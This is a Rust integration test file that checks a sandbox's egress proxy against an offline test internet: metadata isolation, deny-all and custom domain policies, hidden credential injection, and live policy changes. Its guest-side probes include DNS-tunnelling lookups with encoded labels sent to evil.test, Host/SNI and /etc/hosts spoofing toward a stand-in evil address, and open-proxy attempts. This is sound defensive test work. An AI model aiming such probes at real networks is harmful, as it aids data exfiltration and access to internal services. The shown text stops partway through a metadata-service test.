//! Sandbox networking end to end: real VMs, an offline test "internet" in a network namespace of
//! its own (`cove_net::testing::Internet`: DNS, HTTP/HTTPS/WebSocket/SSE servers, echo servers,
//! a private root CA), and the server's egress proxy trusting that root for upstream TLS. Every
//! check is made from inside the guest (curl, python) and, where it matters, confirmed by what
//! the test internet's servers did or did not receive.

mod common;

use std::sync::OnceLock;
use std::time::Duration;

use common::{Api, Leftovers, TestServer};
use cove_net::testing::{Internet, ALLOWED_IP, ALT_HTTP_PORT, CDN_IP, EVIL_IP, ROOT_SIDE_IP, SECRET_IP};
use serde_json::{json, Value};

/// The secret a transform injects: it must never be visible in the guest.
const SECRET: &str = "sk-cove-test-4f1e9b2c7d";
/// Where the guest keeps the test internet's root CA (for end-to-end TLS through the splice).
const GUEST_TEST_CA: &str = "/tmp/test-internet-ca.pem";

fn server() -> &'static TestServer {
    static S: OnceLock<TestServer> = OnceLock::new();
    S.get_or_init(|| {
        let inet = Internet::shared();
        let ca = inet.ca_path().display().to_string();
        let data = std::env::temp_dir().join(format!("cove-test-net-{}", common::rand_hex()));
        // Debug logs of the egress proxy too: the secret must not be in them either.
        TestServer::start_with(
            data,
            &["--egress-dns", "192.88.99.53:53", "--egress-ca", &ca],
            &[("COVE_LOG", "info,cove_runner=debug,cove_net=debug,cove_server=debug")],
        )
    })
}

/// A shell command in the guest: (exit code, stdout + stderr).
async fn sh(api: &Api, id: &str, cmd: &str) -> (i64, String) {
    let (code, out, err) = api.exec(id, cmd).await;
    (code, format!("{out}{err}"))
}

/// curl in the guest; returns (exit code, body). `--max-time` makes a hang show as exit 28, so
/// a refusal that is not a timeout proves the connection failed fast.
async fn curl(api: &Api, id: &str, args: &str) -> (i64, String) {
    sh(api, id, &format!("curl -sS --max-time 20 {args}")).await
}

fn assert_refused(what: &str, (code, out): &(i64, String)) {
    assert!(*code != 0 && *code != 28, "{what}: expected a fast failure, got exit {code}: {out}");
}

async fn put_test_ca(api: &Api, id: &str) {
    api.put_file(id, GUEST_TEST_CA, Internet::shared().ca_pem().as_bytes()).await;
}

fn json_of(out: &str) -> Value {
    serde_json::from_str(out.trim()).unwrap_or_else(|e| panic!("not JSON ({e}): {out}"))
}

/// A DNS query made by python in the guest to `server`: prints "<rcode> <answers>".
fn dns_query(server: &str, name: &str, qtype: u16) -> String {
    format!(
        "python3 -c \"
import socket, struct, random
name, server, qtype = '{name}', '{server}', {qtype}
pkt = struct.pack('>HHHHHH', random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
pkt += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', qtype, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(pkt, (server, 53))
d = s.recv(4096); print(d[3] & 15, struct.unpack('>H', d[6:8])[0])\""
    )
}

/// A TCP echo round trip from the guest; prints what came back.
fn tcp_echo(ip: &str, port: u16) -> String {
    format!(
        "python3 -c \"import socket; s = socket.create_connection(('{ip}', {port}), timeout=10); \
         s.sendall(b'ping'); print(s.recv(16).decode())\""
    )
}

fn udp_send(ip: &str, port: u16) -> String {
    format!(
        "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
         [s.sendto(b'quic?', ('{ip}', {port})) for _ in range(3)]\""
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allow_all_reaches_the_internet_and_nothing_private() {
    let inet = Internet::shared();
    let api = server().new_org(None);
    let left = Leftovers::new(&api);
    let a = api.create(json!({})).await;
    left.sandbox(&a);
    let b = api.create(json!({})).await;
    left.sandbox(&b);
    put_test_ca(&api, &a).await;

    // The guest's network is the same in every sandbox, configured before any user code.
    let (_, out) = sh(&api, &a, "ip -4 -o addr show eth0; ip route; cat /etc/resolv.conf").await;
    assert!(out.contains("10.250.0.2/30") && out.contains("default via 10.250.0.1"), "{out}");
    assert!(out.contains("nameserver 10.250.0.1"), "{out}");

    // Names resolve through the host's DNS; plain and TLS traffic is NATed out.
    let (code, out) = curl(&api, &a, "http://api.allowed.test/").await;
    assert_eq!(code, 0, "{out}");
    assert_eq!(json_of(&out)["host"], "api.allowed.test");
    let (code, out) = curl(&api, &a, &format!("--cacert {GUEST_TEST_CA} https://api.allowed.test/")).await;
    assert_eq!(code, 0, "{out}");
    assert_eq!(json_of(&out)["sni"], "api.allowed.test");
    let (code, out) = sh(&api, &a, &tcp_echo(&CDN_IP.to_string(), 7000)).await;
    assert_eq!((code, out.trim()), (0, "ping"));

    // Never reachable, in any mode: a cloud's metadata service (169.254.169.254:80 is Cove's
    // own, answered on the host), other link-local addresses, private ranges, the host, the
    // gateway's other ports, other sandboxes.
    let (code, out) = curl(&api, &a, "http://169.254.169.254/latest/meta-data/leap0").await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("X-metadata-token is required"), "not Cove's metadata service: {out}");
    assert_refused("metadata, another port", &curl(&api, &a, "http://169.254.169.254:8080/").await);
    assert_refused("link-local", &curl(&api, &a, "http://169.254.169.253/").await);
    assert_refused("private", &curl(&api, &a, "http://10.1.2.3/").await);
    assert_refused("host's test link", &curl(&api, &a, &format!("http://{ROOT_SIDE_IP}:80/")).await);
    assert_refused("gateway ssh", &curl(&api, &a, "http://10.250.0.1:22/").await);
    let host_ip = std::process::Command::new("sh")
        .args(["-c", "ip -4 -o route get 1.1.1.1 | sed -n 's/.* src \\([0-9.]*\\).*/\\1/p'"])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default();
    if !host_ip.is_empty() {
        assert_refused("host address", &curl(&api, &a, &format!("http://{host_ip}:22/")).await);
    }
    // Sandbox b's host-side transit address.
    let b_transit = std::process::Command::new("ip")
        .args(["-n", &format!("cove-{b}"), "-4", "-o", "addr", "show", "dev", "eth0"])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap();
    let b_ip =
        b_transit.split_whitespace().skip_while(|w| *w != "inet").nth(1).unwrap().split('/').next().unwrap();
    let (code, _) = sh(
        &api,
        &b,
        "(setsid nohup python3 -m http.server 8000 >/dev/null 2>&1 </dev/null &); \
         for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:8000/ && exit 0; sleep 0.2; done; exit 1",
    )
    .await;
    assert_eq!(code, 0, "python http.server in b did not start");
    assert_refused("other sandbox", &curl(&api, &a, &format!("http://{b_ip}:8000/")).await);
    assert_refused("other sandbox's guest address", &curl(&api, &a, "http://10.250.0.2:8000/").await);

    // No IPv6: AAAA answers are empty, and a v6 address the guest's root adds leads nowhere.
    let (_, out) = sh(&api, &a, &dns_query("10.250.0.1", "api.allowed.test", 28)).await;
    assert_eq!(out.trim(), "0 0", "AAAA must be answered empty");
    let (code, out) = sh(
        &api,
        &a,
        "sudo -n sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0 && sudo -n ip -6 addr add fd00::2/64 dev eth0 nodad \
         && ping -6 -c 2 -W 1 fd00::1",
    )
    .await;
    assert_ne!(code, 0, "IPv6 reached something: {out}");

    api.delete(&format!("/v1/sandbox/{b}")).await;
    left.forget(&format!("/v1/sandbox/{b}"));
    assert!(!cove_net::netns::exists(&format!("cove-{b}")), "deleting a sandbox removes its namespace");
    let _ = inet;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deny_all_lets_nothing_out_and_fails_fast() {
    let inet = Internet::shared();
    let api = server().new_org(None);
    let left = Leftovers::new(&api);
    let id = api.create(json!({"network_policy": {"mode": "deny-all"}})).await;
    left.sandbox(&id);
    let dns_before = inet.dns_queries_for("denied.allowed.test").len();
    let udp_before = inet.udp_datagrams(ALLOWED_IP, 443);
    // A port no other test connects to: tests run side by side on one test internet.
    let tcp_before = inet.connections(ALLOWED_IP, ALT_HTTP_PORT);
    let dns_denied = r#"cove_egress_decisions_total{protocol="dns",decision="deny"}"#;
    let denied_before = server().metric(dns_denied).await;

    assert_refused("http by IP", &curl(&api, &id, &format!("http://{ALLOWED_IP}:{ALT_HTTP_PORT}/")).await);
    assert_refused("https by IP", &curl(&api, &id, &format!("https://{ALLOWED_IP}/")).await);
    let (code, out) = sh(&api, &id, &tcp_echo(&CDN_IP.to_string(), 7000)).await;
    assert_ne!(code, 0, "{out}");
    assert!(out.contains("refused") || out.contains("unreachable"), "{out}");
    let (code, out) = sh(&api, &id, "getent hosts denied.allowed.test").await;
    assert_ne!(code, 0, "a name resolved under deny-all: {out}");
    sh(&api, &id, &udp_send(&ALLOWED_IP.to_string(), 443)).await;

    assert_eq!(inet.dns_queries_for("denied.allowed.test").len(), dns_before, "DNS left the sandbox");
    assert_eq!(inet.udp_datagrams(ALLOWED_IP, 443), udp_before, "UDP left the sandbox");
    assert_eq!(inet.connections(ALLOWED_IP, ALT_HTTP_PORT), tcp_before, "TCP left the sandbox");
    assert!(server().metric(dns_denied).await > denied_before, "the refused lookup is not in the metrics");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn custom_policy_decides_by_name_on_the_host() {
    let inet = Internet::shared();
    let api = server().new_org(None);
    let left = Leftovers::new(&api);
    // A name that resolves to an address of the host itself (its side of the test internet's
    // link), with a listener there that counts who reaches it.
    inet.set_record("host.allowed.test", ROOT_SIDE_IP);
    let host_listener = tokio::net::TcpListener::bind((ROOT_SIDE_IP, 80)).await.unwrap();
    let host_hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let hits = host_hits.clone();
    tokio::spawn(async move {
        while let Ok((_s, _)) = host_listener.accept().await {
            hits.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    });
    let policy = json!({
        "mode": "custom",
        "allow_domains": ["api.allowed.test", "*.wild.test", "host.allowed.test"],
        "allow_cidrs": ["192.88.99.16/28"],
    });
    let id = api.create(json!({ "network_policy": policy })).await;
    left.sandbox(&id);
    put_test_ca(&api, &id).await;
    let tls = format!("--cacert {GUEST_TEST_CA}");

    // Allowed names work over TLS (spliced: the guest sees the real certificate) and HTTP.
    let (code, out) = curl(&api, &id, &format!("{tls} https://api.allowed.test/")).await;
    assert_eq!(code, 0, "{out}");
    let v = json_of(&out);
    assert_eq!((v["sni"].as_str(), v["server"].as_str()), (Some("api.allowed.test"), Some("192.88.99.10")));
    let (code, out) = curl(&api, &id, "http://api.allowed.test/").await;
    assert_eq!(code, 0, "{out}");
    assert_eq!(json_of(&out)["host"], "api.allowed.test");
    let (code, out) = curl(&api, &id, &format!("{tls} https://deep.er.wild.test/")).await;
    assert_eq!(code, 0, "wildcard: {out}");
    let (code, _) = sh(&api, &id, "getent hosts wild.test").await;
    assert_ne!(code, 0, "a wildcard does not include its apex");

    // The proxy dials the allowed name itself: the IP the guest chose is ignored, also when
    // /etc/hosts lies.
    let evil_before = inet.connections(EVIL_IP, 443) + inet.connections(EVIL_IP, 80);
    let (code, out) =
        curl(&api, &id, &format!("{tls} --resolve api.allowed.test:443:{EVIL_IP} https://api.allowed.test/"))
            .await;
    assert_eq!(code, 0, "{out}");
    assert_eq!(json_of(&out)["server"], "192.88.99.10");
    sh(&api, &id, &format!("echo '{EVIL_IP} api.allowed.test' | sudo -n tee -a /etc/hosts >/dev/null")).await;
    let (code, out) = curl(&api, &id, "http://api.allowed.test/").await;
    assert_eq!(code, 0, "{out}");
    assert_eq!(json_of(&out)["server"], "192.88.99.10");

    // SNI allowed but Host different, and the reverse; no SNI; IP literals.
    let (code, out) = curl(
        &api,
        &id,
        &format!("{tls} --resolve evil.test:443:{ALLOWED_IP} -H 'Host: api.allowed.test' https://evil.test/"),
    )
    .await;
    assert_refused("SNI evil, Host allowed", &(code, out));
    let (code, out) = curl(
        &api,
        &id,
        &format!("-o /dev/null -w '%{{http_code}}' -H 'Host: evil.test' http://{ALLOWED_IP}/"),
    )
    .await;
    assert_eq!((code, out.trim()), (0, "403"), "Host evil to an allowed IP");
    let (code, out) =
        curl(&api, &id, "-o /dev/null -w '%{http_code}' -H 'Host: evil.test' http://api.allowed.test/").await;
    assert_eq!((code, out.trim()), (0, "403"), "Host header overriding an allowed name");
    assert_refused("TLS to an IP literal", &curl(&api, &id, &format!("-k https://{ALLOWED_IP}/")).await);
    let (code, out) = curl(&api, &id, &format!("-o /dev/null -w '%{{http_code}}' http://{SECRET_IP}/")).await;
    assert_eq!((code, out.trim()), (0, "403"), "HTTP to an IP literal");
    assert_eq!(
        inet.connections(EVIL_IP, 443) + inet.connections(EVIL_IP, 80),
        evil_before,
        "evil saw a connection"
    );

    // Unlisted names are never resolved upstream: no answer, no query leaves (no DNS
    // tunnelling), also when the guest asks an outside resolver directly.
    let (_, out) = sh(&api, &id, &dns_query("10.250.0.1", "c2VjcmV0.evil.test", 1)).await;
    assert_eq!(out.trim(), "3 0", "NXDOMAIN for an unlisted name");
    let (_, out) = sh(&api, &id, &dns_query("8.8.8.8", "dGFibGU.evil.test", 1)).await;
    assert_eq!(out.trim(), "3 0", "an outside resolver is answered by the host");
    let (_, out) = sh(&api, &id, &dns_query("8.8.8.8", "api.allowed.test", 16)).await;
    assert_eq!(out.trim().split(' ').next(), Some("5"), "TXT is refused");
    assert!(inet.dns_queries_for("evil.test").is_empty(), "unlisted names reached DNS upstream");
    // An allowed name whose answer is a metadata address gets no answer the guest could use.
    let (code, _) = sh(&api, &id, "getent hosts rebind.test").await;
    assert_ne!(code, 0);

    // CIDRs: any port inside, nothing outside; UDP (QUIC) to an allowed name's address is dropped.
    let (code, out) = sh(&api, &id, &tcp_echo(&CDN_IP.to_string(), 7000)).await;
    assert_eq!((code, out.trim()), (0, "ping"));
    let (code, out) = sh(&api, &id, &tcp_echo(&ALLOWED_IP.to_string(), 7000)).await;
    assert_ne!(code, 0, "port 7000 of an allowed name's address: {out}");
    let udp_before = inet.udp_datagrams(ALLOWED_IP, 443);
    sh(&api, &id, &udp_send(&ALLOWED_IP.to_string(), 443)).await;
    assert_eq!(inet.udp_datagrams(ALLOWED_IP, 443), udp_before, "UDP/443 left the sandbox");

    // The proxy is no open proxy: CONNECT, TRACE and absolute-form requests to other hosts.
    let (code, out) = curl(
        &api,
        &id,
        &format!("-o /dev/null -w '%{{http_code}}' -p -x http://{ALLOWED_IP}:80 http://evil.test/"),
    )
    .await;
    assert!(code != 0 || out.trim() != "200", "CONNECT through the proxy worked: {out}");
    let (code, out) =
        curl(&api, &id, "-o /dev/null -w '%{http_code}' -X TRACE http://api.allowed.test/").await;
    assert_eq!((code, out.trim()), (0, "405"));
    let (code, out) = curl(
        &api,
        &id,
        &format!("-o /dev/null -w '%{{http_code}}' -x http://{ALLOWED_IP}:80 http://evil.test/"),
    )
    .await;
    assert!(code != 0 || out.trim() == "403" || out.trim() == "421", "absolute-form to evil: {code} {out}");
    // An allowed name that resolves to the host: the proxy never dials the host.
    let (code, out) = curl(&api, &id, "-o /dev/null -w '%{http_code}' http://host.allowed.test/").await;
    assert!(code != 0 || out.trim() != "200", "{code} {out}");
    assert_eq!(host_hits.load(std::sync::atomic::Ordering::SeqCst), 0, "the proxy connected to the host");
    // Connecting to the proxy's own ports directly is refused.
    assert_refused("proxy port", &curl(&api, &id, "http://10.250.0.1:15080/").await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn transforms_inject_credentials_the_guest_never_sees() {
    let since = common::unix_now();
    let inet = Internet::shared();
    let srv = server();
    let api = srv.new_org(None);
    let left = Leftovers::new(&api);
    let policy = json!({
        "mode": "custom",
        "allow_domains": ["api.allowed.test"],
        "transforms": [{
            "domain": "secret.test",
            "inject_headers": {"Authorization": format!("Bearer {SECRET}")},
            "strip_headers": ["x-strip-me"],
        }],
    });
    let id = api.create(json!({ "network_policy": policy })).await;
    left.sandbox(&id);

    // The metadata store holds it sealed (the key is a separate file), not in the clear.
    let stored = common::stored_metadata(&srv.data_dir);
    assert!(!stored.is_empty());
    assert!(
        memchr::memmem::find(&stored, SECRET.as_bytes()).is_none(),
        "the secret is in the store in the clear"
    );
    // The API never shows the value.
    let r = api.get(&format!("/v1/sandbox/{id}")).await;
    assert!(!r.text().contains(SECRET), "{}", r.text());
    assert_eq!(r.json()["network_policy"]["transforms"][0]["domain"], "secret.test");

    // HTTPS to the transform domain is terminated on the host with the sandbox's CA (which the
    // guest's system bundle trusts), the header is replaced and the other stripped.
    for (key, proto) in [("h1", "--http1.1"), ("h2", "--http2")] {
        let (code, out) = curl(
            &api,
            &id,
            &format!("{proto} -H 'Authorization: Bearer dummy' -H 'x-strip-me: 1' https://secret.test/record/{key}"),
        )
        .await;
        assert_eq!(code, 0, "{out}");
        let rec = inet.wait_recorded(key, Duration::from_secs(5)).await;
        assert_eq!(rec.len(), 1, "{rec:?}");
        assert_eq!(rec[0].header_values("authorization"), vec![format!("Bearer {SECRET}").as_str()]);
        assert!(rec[0].header("x-strip-me").is_none());
        assert_eq!(rec[0].sni.as_deref(), Some("secret.test"));
    }
    // python (urllib on the system trust store) works the same.
    let (code, out) = sh(
        &api,
        &id,
        "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://secret.test/record/py').status)\"",
    )
    .await;
    assert_eq!((code, out.trim()), (0, "200"), "{out}");
    assert_eq!(
        inet.wait_recorded("py", Duration::from_secs(5)).await[0].header("authorization").map(str::len),
        Some(SECRET.len() + 7)
    );

    // Host different from SNI: 421 and nothing forwarded, with or without credentials.
    let (code, out) = curl(
        &api,
        &id,
        "-o /dev/null -w '%{http_code}' -H 'Host: evil.test' https://secret.test/record/mismatch",
    )
    .await;
    assert_eq!((code, out.trim()), (0, "421"));
    // TRACE would reflect the injected header: refused.
    let (code, out) =
        curl(&api, &id, "-o /dev/null -w '%{http_code}' -X TRACE https://secret.test/record/trace").await;
    assert_eq!((code, out.trim()), (0, "405"));
    // Plain HTTP never gets credentials.
    let (code, out) = curl(&api, &id, "http://secret.test/record/plain").await;
    assert_eq!(code, 0, "{out}");
    let rec = inet.wait_recorded("plain", Duration::from_secs(5)).await;
    assert!(rec[0].header("authorization").is_none(), "{rec:?}");
    assert!(inet.recorded("mismatch").is_empty() && inet.recorded("trace").is_empty());

    // Streaming responses and WebSocket upgrades pass through the terminating proxy.
    let (code, out) = curl(&api, &id, "-N https://secret.test/sse").await;
    assert_eq!(code, 0, "{out}");
    assert_eq!(out.matches("data: tick").count(), 5, "{out}");
    let ws = "python3 -c \"
import socket, ssl, base64, os
s = ssl.create_default_context().wrap_socket(socket.create_connection(('secret.test', 443), timeout=10), server_hostname='secret.test')
key = base64.b64encode(os.urandom(16)).decode()
s.sendall(('GET /ws HTTP/1.1\\r\\nHost: secret.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: ' + key + '\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n').encode())
head = b''
while not head.endswith(b'\\r\\n\\r\\n'): head += s.recv(1)
assert b' 101 ' in head.split(b'\\r\\n')[0], head
msg, mask = b'hello-ws', os.urandom(4)
s.sendall(bytes([0x81, 0x80 | len(msg)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(msg)))
h = s.recv(2); data = b''
while len(data) < (h[1] & 0x7f): data += s.recv(64)
print(data.decode())\"";
    let (code, out) = sh(&api, &id, ws).await;
    assert_eq!((code, out.trim()), (0, "hello-ws"), "{out}");

    // The secret is nowhere in the guest: files, environments, or its memory. A marker the
    // guest does hold is found by the same scan, so the scan can see.
    let marker = common::hold_marker(&api, &id).await;
    // The pattern matches the secret without holding it: sending the secret itself into the
    // guest would put it there. (Not `...[d]`: grep would rebuild the literal from a one-letter
    // class.)
    let pattern = format!("{}.", &SECRET[..SECRET.len() - 1]);
    let (code, out) = common::guest_scan(&api, &id, &pattern, since, "/nonexistent").await;
    assert_eq!(out.trim(), "0", "the secret is in the guest: exit {code}: {out}");
    assert!(
        common::guest_memory_contains(&id, marker.as_bytes()),
        "the memory scan cannot see the guest's memory"
    );
    assert!(!common::guest_memory_contains(&id, SECRET.as_bytes()), "the secret is in the guest's memory");

    // Paused: the stored memory image holds no secret either (scanned after unpacking).
    let r = api.action(&id, "pause").await;
    assert_eq!(r.status, 201, "{}", r.text());
    let images = common::stored_images(&srv.data_dir);
    let store =
        cove_blob::BlobStore::open(&format!("file://{}", srv.data_dir.join("blobs").display())).unwrap();
    let mut scanned = 0;
    for image in images {
        let prefix = format!("images/{image}");
        let Ok(Some(m)) = cove_runner::image::manifest(&store, &prefix).await else { continue };
        let dest = srv.data_dir.join(format!("scan-{image}.mem"));
        // Other tests' images come and go meanwhile: one deleted under us is not ours.
        if cove_blob::unpack_file(&store, &prefix, &m.memory, &dest).await.is_err() {
            let _ = std::fs::remove_file(&dest);
            continue;
        }
        if common::file_contains(&dest, marker.as_bytes()) {
            scanned += 1;
            assert!(!common::file_contains(&dest, SECRET.as_bytes()), "the secret is in the paused image");
        }
        let _ = std::fs::remove_file(&dest);
    }
    assert_eq!(scanned, 1, "the paused sandbox's image was not found");
    // Nor is it in the server's log (header values are never logged).
    let log = std::fs::read_to_string(srv.data_dir.join("server.log")).unwrap_or_default();
    assert!(!log.is_empty() && !log.contains(SECRET), "the secret is in the server log");
    // Resumed, the guest still trusts its CA and the transform still applies.
    let (code, out) = curl(&api, &id, "https://secret.test/record/after-resume").await;
    assert_eq!(code, 0, "{out}");
    let rec = inet.wait_recorded("after-resume", Duration::from_secs(5)).await;
    assert_eq!(rec[0].header_values("authorization"), vec![format!("Bearer {SECRET}").as_str()]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn policy_changes_apply_live_and_travel_with_snapshots() {
    let srv = server();
    let api = srv.new_org(None);
    let left = Leftovers::new(&api);
    let id = api.create(json!({})).await;
    left.sandbox(&id);
    put_test_ca(&api, &id).await;

    // A long-lived NATed connection (allow-all), then deny-all: it is cut, new ones fail.
    let hold = "setsid nohup python3 -c \"
import socket, time
s = socket.create_connection(('192.88.99.20', 7000), timeout=30)
out = open('/tmp/hold.log', 'w', buffering=1)
for i in range(300):
    try:
        s.sendall(b'x'); s.recv(16); out.write('ok\\n')
    except Exception as e:
        out.write('cut %r\\n' % e); break
    time.sleep(0.1)
\" >/dev/null 2>&1 </dev/null &
for i in $(seq 150); do [ -s /tmp/hold.log ] && break; sleep 0.2; done; head -1 /tmp/hold.log";
    let (_, out) = sh(&api, &id, hold).await;
    assert_eq!(out.trim(), "ok", "the held connection did not start: {out}");
    let patch = |body: Value| {
        let api = api.clone();
        let id = id.clone();
        async move {
            api.req(reqwest::Method::PATCH, &format!("/v1/sandbox/{id}/network-policy"), Some(body)).await
        }
    };
    let r = patch(json!({"mode": "deny-all"})).await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["network_policy"]["mode"], "deny-all");
    let (_, out) = sh(&api, &id, "for i in $(seq 100); do grep -q cut /tmp/hold.log && break; sleep 0.2; done; grep -c cut /tmp/hold.log").await;
    assert_eq!(out.trim(), "1", "the connection the new policy forbids was not cut");
    assert_refused("after deny-all", &curl(&api, &id, "http://192.88.99.10/").await);

    // Custom, then narrower: a spliced TLS tunnel is cut when its name is no longer allowed.
    let r = patch(json!({"mode": "custom", "allow_domains": ["api.allowed.test"]})).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let (code, out) = curl(&api, &id, &format!("--cacert {GUEST_TEST_CA} https://api.allowed.test/")).await;
    assert_eq!(code, 0, "{out}");
    let slow = format!(
        "(curl -sS -N --max-time 60 --cacert {GUEST_TEST_CA} -o /tmp/drip.out \
         https://api.allowed.test/drip/400; echo exit=$? > /tmp/slow.log) >/dev/null 2>&1 & \
         for i in $(seq 50); do [ -s /tmp/drip.out ] && break; sleep 0.2; done; echo started"
    );
    sh(&api, &id, &slow).await;
    let r = patch(json!({"mode": "custom", "allow_domains": ["other.allowed.test"]})).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let (_, out) = sh(
        &api,
        &id,
        "for i in $(seq 50); do [ -s /tmp/slow.log ] && break; sleep 0.2; done; cat /tmp/slow.log",
    )
    .await;
    assert!(out.contains("exit=") && !out.contains("exit=0"), "the tunnel survived: {out}");
    assert_refused(
        "removed name",
        &curl(&api, &id, &format!("--cacert {GUEST_TEST_CA} https://api.allowed.test/")).await,
    );

    // Validation names the field; nothing changes.
    let r = patch(json!({"mode": "custom", "allow_cidrs": ["10.0.0.0/8"]})).await;
    common::assert_field(&r, "allow_cidrs[0]");
    let r = patch(json!({"mode": "custom", "allow_domains": ["*.com"]})).await;
    common::assert_field(&r, "allow_domains[0]");
    let r = patch(json!({"mode": "sometimes"})).await;
    assert_eq!(r.status, 400, "{}", r.text());
    let r = api
        .req(
            reqwest::Method::PATCH,
            "/v1/sandbox/sbx-00000000000000000000/network-policy",
            Some(json!({"mode": "deny-all"})),
        )
        .await;
    assert_eq!(r.status, 404);

    // The policy is kept with a snapshot; a restore may override it.
    let r = api.post(&format!("/v1/sandbox/{id}/snapshot/create"), json!({})).await;
    assert_eq!(r.status, 201, "{}", r.text());
    let snap = r.json()["id"].as_str().unwrap().to_string();
    let snap_name = r.json()["name"].as_str().unwrap().to_string();
    left.snapshot(&snap);
    let r = api.post("/v1/snapshot/restore", json!({"snapshot_name": snap_name})).await;
    assert_eq!(r.status, 201, "{}", r.text());
    let same = r.json()["id"].as_str().unwrap().to_string();
    left.sandbox(&same);
    assert_eq!(r.json()["network_policy"]["allow_domains"][0], "other.allowed.test");
    let (code, out) = curl(
        &api,
        &same,
        "-o /dev/null -w '%{http_code}' --resolve api.allowed.test:80:192.88.99.10 http://api.allowed.test/",
    )
    .await;
    assert_eq!((code, out.trim()), (0, "403"), "the restored sandbox has the snapshot's policy");
    let (code, out) = curl(&api, &same, "http://other.allowed.test/").await;
    assert_eq!(code, 0, "{out}");
    let r = api
        .post(
            "/v1/snapshot/restore",
            json!({"snapshot_name": snap_name, "network_policy": {"mode": "allow-all"}}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text());
    let open = r.json()["id"].as_str().unwrap().to_string();
    left.sandbox(&open);
    let (code, out) = curl(&api, &open, "http://192.88.99.10/").await;
    assert_eq!(code, 0, "{out}");

    // A paused sandbox takes a new policy at its next resume, also into the namespace its
    // pause kept.
    let r = api.action(&open, "pause").await;
    assert_eq!(r.status, 201, "{}", r.text());
    assert!(cove_net::netns::exists(&format!("cove-{open}")), "the pause did not keep the namespace");
    let r = api
        .req(
            reqwest::Method::PATCH,
            &format!("/v1/sandbox/{open}/network-policy"),
            Some(json!({"mode": "deny-all"})),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert_refused("policy set while paused", &curl(&api, &open, "http://192.88.99.10/").await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_restart_keeps_sandbox_networks_enforced() {
    let inet = Internet::shared();
    let ca = inet.ca_path().display().to_string();
    let args = ["--egress-dns", "192.88.99.53:53", "--egress-ca", ca.as_str()];
    let data = std::env::temp_dir().join(format!("cove-test-net-restart-{}", common::rand_hex()));
    let first = TestServer::start_in(data.clone(), &args);
    let api = first.new_org(None);
    let id = api
        .create(json!({"network_policy": {"mode": "custom", "allow_domains": ["api.allowed.test"]}}))
        .await;
    put_test_ca(&api, &id).await;
    let ok = format!("--cacert {GUEST_TEST_CA} https://api.allowed.test/");
    assert_eq!(curl(&api, &id, &ok).await.0, 0);

    // The VM and its namespace outlive the server; the listeners do not, and come back.
    first.kill(libc::SIGKILL);
    assert!(cove_net::netns::exists(&format!("cove-{id}")));
    // A crash between making a sandbox's network and its VM leaves a namespace and a CA that no
    // record owns: the next start removes them (and only this data dir's).
    let orphan = format!("sbx-{}", &common::rand_hex()[..20]);
    let rules =
        cove_net::topology::Rules { mode: cove_api::sandbox::NetworkMode::DenyAll, allow_cidrs: vec![] };
    cove_net::topology::create(&orphan, &rules, cove_net::policy::DENIED_V4).await.unwrap();
    std::fs::write(data.join("net").join(format!("{orphan}.pem")), "not a CA").unwrap();
    let second = TestServer::start_in(data.clone(), &args);
    assert!(!cove_net::netns::exists(&format!("cove-{orphan}")), "an orphan namespace survived a restart");
    assert!(!data.join("net").join(format!("{orphan}.pem")).exists());
    let api = api.on(&second);
    let left = Leftovers::new(&api);
    left.sandbox(&id);
    let (code, out) = curl(&api, &id, &ok).await;
    assert_eq!(code, 0, "after restart: {out}");
    assert_refused(
        "still custom",
        &curl(&api, &id, &format!("--resolve evil.test:443:{EVIL_IP} -k https://evil.test/")).await,
    );
    let (_, out) = sh(&api, &id, &dns_query("10.250.0.1", "evil.test", 1)).await;
    assert_eq!(out.trim(), "3 0");
}

/// The metadata service at 169.254.169.254, answered on the host: reachable under deny-all (and
/// nothing else is), IMDSv2 sessions whose tokens belong to one sandbox, the IMDS text form and
/// JSON, and what it says matches the sandbox (its id, environment, and the egress CA the
/// guest trusts).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_metadata_service_answers_from_the_host() {
    let api = server().new_org(None);
    let left = Leftovers::new(&api);
    let a = api.create(json!({"env_vars": {"PORT": "3000"}, "network_policy": {"mode": "deny-all"}})).await;
    left.sandbox(&a);
    let b = api.create(json!({})).await;
    left.sandbox(&b);
    let imds = "http://169.254.169.254";
    let token_of = |id: String| {
        let api = &api;
        async move {
            let (code, token) = curl(
                api,
                &id,
                &format!("-f -X PUT -H 'X-metadata-token-ttl-seconds: 60' {imds}/latest/api/token"),
            )
            .await;
            assert_eq!(code, 0, "{token}");
            assert!(token.len() >= 32 && token.chars().all(|c| c.is_ascii_hexdigit()), "{token:?}");
            token
        }
    };
    let token = token_of(a.clone()).await;

    // Sessions: a token is needed, its TTL is checked, and it only works in its own sandbox.
    let status = |id: String, args: String| {
        let api = &api;
        async move { curl(api, &id, &format!("-o /dev/null -w '%{{http_code}}' {args}")).await.1 }
    };
